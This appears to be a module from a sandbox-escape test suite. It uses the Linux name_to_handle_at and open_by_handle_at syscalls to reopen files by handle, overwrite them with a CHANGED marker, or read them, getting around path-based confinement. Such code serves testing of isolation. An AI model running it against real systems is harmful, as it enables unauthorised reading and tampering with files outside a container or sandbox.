"""Opening by handle."""
import ctypes
import os

from attack import AT_FDCWD, CHANGED, X86, syscall

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = (303, 304) if X86 else (264, 265)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def opened(path, flags):
    handle, mount = Handle(bytes=128), ctypes.c_int()
    syscall(NAME_TO_HANDLE_AT, AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    # Any object of the file system will do to say which one it is.
    top = os.open(os.path.dirname(path), os.O_RDONLY)
    return syscall(OPEN_BY_HANDLE_AT, top, ctypes.byref(handle), flags)


def write(path):
    os.write(opened(path, os.O_WRONLY), CHANGED)


def write_below(path):
    folder = opened(os.path.dirname(path), os.O_RDONLY)
    os.write(os.open(os.path.basename(path), os.O_WRONLY, dir_fd=folder), CHANGED)


def read(path):
    print(os.read(opened(path, os.O_RDONLY), 64).decode())
